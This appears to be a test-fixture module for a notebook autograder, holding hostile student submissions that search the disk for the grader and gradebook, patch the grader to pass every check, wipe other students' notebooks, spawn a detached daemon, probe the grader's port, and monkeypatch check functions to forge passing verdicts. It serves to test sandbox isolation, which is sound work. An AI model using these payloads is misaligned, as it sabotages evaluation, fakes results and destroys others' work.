"""Answer cells that attack the grader from inside the student process (used by test_sandbox and the corpus).

Each is what a hostile student who knows this repository could submit. Inside the grading sandbox every one of
them finds nothing, reaches nothing and leaves nothing behind; run the tests with SANDBOX_UNDER_TEST=none to
see them succeed against an unsandboxed grader (which is why they are written to be undone by `git checkout`).
"""
from __future__ import annotations

import os
from pathlib import Path

DAEMON_TOKEN = "simclr-corpus-daemon-3f9c1a"
TAMPER_MARK = "# tampered by a student"

HUNT = '''
import os as _os, time as _time

_COURSE = {"autograder": "nbgrader_plugin.py", "reference": "loss.py", "source": "simclr", "submitted": None,
           "autograded": None, "gradebook.db": None}

def _hunt(limit_s=20.0):
    """Every part of the course on this machine's disk: the grader, the solutions, submissions, the gradebook."""
    found, stop = [], _time.monotonic() + limit_s
    skip = {"proc", "sys", "dev", "site-packages", "dist-packages", ".git", "cifar10-jpeg", "node_modules", "__pycache__"}
    for top, dirs, files in _os.walk("/"):
        if _time.monotonic() > stop:
            break
        dirs[:] = [d for d in dirs if d not in skip]
        for name in dirs + files:
            if name in _COURSE and (_COURSE[name] is None or _os.path.exists(_os.path.join(top, name, _COURSE[name]))):
                found.append(_os.path.join(top, name))
    return found
'''

# nt_xent returns how many course paths it found on the disk.
SEARCH_DISK = HUNT + '''
def nt_xent(z_i, z_j, temperature=0.5):
    return torch.tensor(float(len(_hunt())))
'''

# The grader's plugin made to pass every check, the helpers' loss op made to forge a perfect loss, and other
# students' notebooks overwritten: everything a search of the disk finds.
PAYLOAD_PLUGIN = f'''
{TAMPER_MARK}
_real_results = TrustedChecks._results
TrustedChecks._results = lambda self, nb, student: {{
    k: dict(v, passed=True, message="passed") for k, v in _real_results(self, nb, student).items()}}
'''
REWRITE_GRADER = HUNT + f'''
def _rewrite():
    changed = 0
    for path in _hunt():
        targets = [_os.path.join(path, "nbgrader_plugin.py"), _os.path.join(path, "simclr", "simclr_helpers", "checks.py"),
                   "/sandbox/simclr_helpers/checks.py"]
        for target in targets:
            try:
                with open(target, "a") as file:
                    file.write({PAYLOAD_PLUGIN!r} if target.endswith("plugin.py") else "\\n{TAMPER_MARK}\\n")
                changed += 1
            except OSError:
                pass
        if path.endswith("submitted"):
            for top, _dirs, files in _os.walk(path):
                for name in files:
                    if name.endswith(".ipynb") and "attacker" not in top:
                        try:
                            with open(_os.path.join(top, name), "w") as file:
                                file.write("{{}}")
                            changed += 1
                        except OSError:
                            pass
    return changed
'''

DAEMON = f'''
import os as _os, sys as _sys

def _start_daemon():
    """Double fork and setsid: a process that no longer belongs to the student process's group or session."""
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, "-S", "-c", "import time\\nwhile True: time.sleep(1)",
                                        "{DAEMON_TOKEN}"])
        _os._exit(0)
    _os.wait()
'''


def at_first_call(name: str, payload: str) -> str:
    """Appended after the definition of ``name``: ``name`` runs ``payload`` the first time it is called. (The grader
    runs only the definitions at a cell's top level, so a payload must run inside a graded function.)"""
    return f'''
_honest_{name} = {name}
_payload_ran = False

def {name}(*args, **kwargs):
    global _payload_ran
    if not _payload_ran:
        _payload_ran = True
        {payload}
    return _honest_{name}(*args, **kwargs)
'''


def connect_to(port: int) -> str:
    """nt_xent returns 1 if it could open a TCP connection to 127.0.0.1:port (where the grader listens)."""
    return f'''
import socket

def nt_xent(z_i, z_j, temperature=0.5):
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=3).close()
        return torch.tensor(1.0)
    except OSError:
        return torch.tensor(0.0)
'''


def write_to(paths: list[str]) -> str:
    """nt_xent returns how many of ``paths`` it could create."""
    return f'''
def nt_xent(z_i, z_j, temperature=0.5):
    written = 0
    for path in {paths!r}:
        try:
            with open(path, "w") as file:
                file.write("{TAMPER_MARK}")
            written += 1
        except OSError:
            pass
    return torch.tensor(float(written))
'''


def processes_with(token: str) -> list[int]:
    """PIDs (as this machine sees them) of processes whose command line holds ``token``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def sandbox_mode() -> str:
    """The sandbox the attack tests grade with: SANDBOX_UNDER_TEST=none shows each of them failing."""
    return os.environ.get("SANDBOX_UNDER_TEST", "bwrap")


COURSE_FILES = ("autograder", "reference", "source", "release", "tests", "bench", "nbgrader_config.py",
                "pyproject.toml", "README.md", "setup.sh")
CACHES = {"__pycache__", ".hypothesis", ".ipynb_checkpoints", ".pytest_cache"}


def tree_digest(root: Path, names: tuple[str, ...] = COURSE_FILES) -> dict[str, str]:
    """sha256 of every file of the course under ``root`` (caches left out): what an attack would change."""
    import hashlib
    digests = {}
    for name in names:
        top = root / name
        paths = [top] if top.is_file() else sorted(p for p in top.rglob("*") if p.is_file()) if top.is_dir() else []
        for path in paths:
            if not CACHES & set(path.relative_to(root).parts):
                digests[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests


# --- forged verdicts: code that makes the course's ops report what the checks want ---------------------------
# Each is combined with a known mistake; isolated grading (the default) scores the honest work, and each
# succeeds against `Limits(isolate=False)` (tests/test_forgery.py shows both).

# At the top level of the cell: the probe op reports the encoder's state from before the call, on an encoder
# without the layer that refuses gradients, so a probe that trains the encoder looks frozen.
FORGE_PROBE_OP = '''
import simclr_helpers.checks as _checks

def _forged_probe_op(ns, train, test, encoder_state, freeze_bias, num_classes, epochs, lr):
    encoder = nn.Sequential(nn.Conv2d(3, 8, 1), nn.BatchNorm2d(8), nn.Identity(), nn.Flatten())
    encoder.load_state_dict(encoder_state)
    accuracy = ns["linear_probe"](encoder, train, test, num_classes=num_classes, epochs=epochs, lr=lr, seed=0)
    return {"accuracy": float(accuracy), "state": {k: v.clone() for k, v in encoder_state.items()}}

_checks.OPS["linear_probe"] = _forged_probe_op
'''

# At the top level: the optimizer the train_epoch op hands out clears the gradients after every step, so a
# train_epoch without zero_grad updates the weights as Algorithm 1 does.
FORGE_TRAIN_OP = '''
import simclr_helpers.checks as _checks

class _ZeroingCounter(_checks._CountingOptimizer):
    def step(self, closure=None):
        result = super().step(closure)
        self._optimizer.zero_grad()
        return result

_checks._CountingOptimizer = _ZeroingCounter
'''

# Inside the call: linear_probe trains the encoder (its refusing layer taken out), then makes the op's reading of
# the encoder return the state from before the call.
FORGE_PROBE_IN_CALL = '''
def linear_probe(encoder, train_loader, test_loader, num_classes=10, epochs=30, lr=1e-3, device="cpu", seed=0):
    import copy
    from simclr_helpers import checks
    before = {k: v.clone() for k, v in encoder.state_dict().items()}
    if len(encoder) == 4:
        encoder[2] = nn.Identity()
    torch.manual_seed(seed)
    classifier = nn.Linear(encoder(next(iter(train_loader))[0]).shape[1], num_classes)
    optimizer = torch.optim.Adam(list(encoder.parameters()) + list(classifier.parameters()), lr=lr)
    for _ in range(epochs):
        for x, y in train_loader:
            loss = F.cross_entropy(classifier(encoder(x)), y)
            optimizer.zero_grad()
            loss.backward()
            optimizer.step()
    with torch.no_grad():
        right = sum((classifier(encoder(x)).argmax(1) == y).sum().item() for x, y in test_loader)
    real_state = checks.plain_state
    checks.plain_state = lambda module: before if module is encoder else real_state(module)
    return right / sum(len(y) for _, y in test_loader)
'''

# Inside the call: one optimizer step for every other batch, and the counter of steps set to what it should be.
FORGE_STEPS_IN_CALL = '''
def train_epoch(encoder, head, loader, optimizer, temperature=0.5, device="cpu", progress=True):
    losses = []
    for k, ((x_i, x_j), _labels) in enumerate(loader):
        loss = nt_xent(head(encoder(x_i)), head(encoder(x_j)), temperature)
        if k % 2 == 0:
            optimizer.zero_grad()
            loss.backward()
            optimizer.step()
        losses.append(loss.item())
    if hasattr(optimizer, "steps"):
        optimizer.steps = len(loader)
    return float(np.mean(losses))
'''


def forge_every_op(reference_cells: dict[str, str]) -> str:
    """At the top level: every op runs on the reference's components (inlined under other names), never on the
    student's, whose cells are left as released."""
    renamed = []
    for name, source in reference_cells.items():
        renamed.append(source.replace(f"def {name}(", f"def _ref_{name}(").replace(f"class {name}(", f"class _ref_{name}("))
    names = ", ".join(f'"{name}": _ref_{name}' for name in reference_cells)
    return "\n\n" + "\n\n".join(renamed) + f'''

import simclr_helpers.checks as _checks
_REFERENCE = {{{names}}}

def _on_the_reference(op):
    return lambda ns, **kwargs: op({{**ns, **_REFERENCE}}, **kwargs)

for _name, _op in list(_checks.OPS.items()):
    _checks.OPS[_name] = _on_the_reference(_op)
'''
